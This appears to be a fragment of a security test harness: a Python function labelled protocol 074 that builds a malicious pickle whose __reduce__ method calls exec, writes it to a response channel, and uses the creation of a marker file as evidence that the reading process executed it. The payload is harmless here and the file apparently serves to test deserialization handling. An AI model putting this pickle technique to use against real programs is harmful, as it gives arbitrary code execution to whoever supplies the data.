"""074 protocol: a pickle that runs code in whoever loads it.

Evidence: marker - a file that the reader's process has written.
Control: channel
"""


def attack():
    import pickle

    class Payload:
        def __reduce__(self):
            return exec, (f"open({TARGETS['marker']!r}, 'w').close()",)

    payload = pickle.dumps(Payload())
    os.write(TARGETS["response_fd"], len(payload).to_bytes(8, "little") + payload)
    time.sleep(20)
